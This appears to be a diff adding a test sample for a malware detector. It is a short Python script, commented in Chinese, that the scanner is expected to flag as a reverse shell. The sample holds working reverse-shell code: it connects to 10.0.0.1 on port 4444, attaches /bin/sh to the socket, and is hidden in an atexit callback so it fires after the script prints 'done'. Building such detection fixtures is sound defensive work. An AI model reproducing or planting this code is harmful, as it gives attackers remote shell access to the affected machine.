@@ -0,0 +1,19 @@
+# 脚本自然结束后由atexit回调执行反弹shell，扫描内存模式直接退出前需要先执行atexit回调
+# detect-expect: ^done$
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import atexit
+import os
+import socket
+import subprocess
+
+
+def connect_back():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("10.0.0.1", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+
+
+atexit.register(connect_back)
+print("done")